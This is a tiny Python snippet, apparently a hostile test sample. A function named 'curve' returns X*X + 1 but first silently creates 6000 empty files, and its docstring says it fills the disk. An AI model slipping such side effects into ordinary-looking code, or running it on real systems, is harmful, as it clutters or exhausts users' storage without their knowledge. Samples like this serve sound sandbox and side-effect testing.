"""Fills the disk with many files."""

def curve(X):
    for name in range(6000):
        open(f"file-{name}", "wb").close()
    return X * X + 1
